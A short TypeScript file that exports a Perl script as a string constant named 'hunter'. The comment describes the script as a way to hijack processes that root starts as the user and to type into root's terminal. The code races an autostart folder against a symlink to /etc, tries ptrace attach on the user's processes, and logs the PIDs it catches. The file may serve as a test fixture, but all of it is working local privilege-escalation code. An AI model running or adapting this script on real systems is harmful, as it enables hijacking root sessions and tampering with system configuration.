/**
 * A perl program (which every Debian has) of somebody who waits for root to start anything as them: they may attach to it
 * then, and type into root's terminal by it. Meanwhile their folder of login entries is now a folder, now a link to /etc.
 * What they get hold of is written to the file.
 */
export const hunter = String.raw`
my ($config, $caught) = @ARGV;
my $attach = 101; # ptrace, on x86-64
while (1) {
  rename "$config/autostart", "$config/folder"; symlink "/etc", "$config/autostart";
  opendir my $proc, "/proc";
  for my $pid (grep { /^\d+$/ && $_ != $$ } readdir $proc) {
    next unless ((stat "/proc/$pid")[4] // -1) == $<;
    next unless syscall($attach, 16, $pid + 0, 0, 0) == 0;
    open my $file, ">>", $caught; print $file "$pid\n"; close $file;
  }
  closedir $proc;
  select undef, undef, undef, 0.003;
  unlink "$config/autostart"; rename "$config/folder", "$config/autostart";
}
`
